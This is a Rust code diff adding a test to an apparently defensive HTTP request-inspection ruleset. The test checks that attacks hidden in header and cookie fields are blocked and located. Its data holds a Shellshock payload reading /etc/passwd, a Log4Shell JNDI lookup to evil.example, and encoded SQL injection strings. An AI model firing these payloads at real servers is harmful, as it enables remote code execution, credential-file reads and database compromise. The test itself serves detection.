@@ -6,6 +6,7 @@ fn mk_head<'a>(target: &'a str, content_type: Option<&'a str>) -> Head<'a> {
         target: target.as_bytes(),
         content_type: content_type.map(str::as_bytes),
         content_encoding: None,
+        fields: &(),
     }
 }
 
@@ -246,4 +247,25 @@ fn a_body_that_is_two_things_at_once_hides_nothing() {
     let judged =
         ruleset.decide(inspected(&ruleset, &mk_head("/", Some("text/javascript")), Body::Complete(script)));
     assert_eq!(judged.verdict, decide::Verdict::Allow);
+}
+
+#[test]
+fn an_attack_in_a_field_of_the_head_is_found_where_it_is() {
+    let ruleset = mk_ruleset();
+    let rows = [
+        ("user-agent", "() { :; }; /bin/cat /etc/passwd", "header", "user-agent"),
+        ("x-api-version", "${jndi:ldap://evil.example/a}", "header", "x-api-version"),
+        ("referer", "https://example.org/?q=1%27+or+%271%27=%271", "header", "referer"),
+        ("authorization", "Basic YWRtaW4nIG9yICcxJz0nMTpzZWNyZXQ=", "header", "authorization"),
+        ("cookie", "theme=dark; id=1'%20or%20'1'='1", "cookie", "id"),
+        ("cookie", "a=%7B%22b%22%3A%22x%27%20or%201%3D1--%22%7D", "json", "b"),
+    ];
+    for (name, value, part, location) in rows {
+        let fields = [(name, value)];
+        let head = Head { fields: &fields.as_slice(), ..mk_head("/", None) };
+        let judgement = ruleset.decide(ruleset.inspect_head(&head));
+        assert_eq!(judgement.verdict, decide::Verdict::Block, "{name}: {value}");
+        let found = &judgement.findings[0].location;
+        assert_eq!((found.part.as_str(), &*found.name), (part, location), "{name}: {value}");
+    }
 }
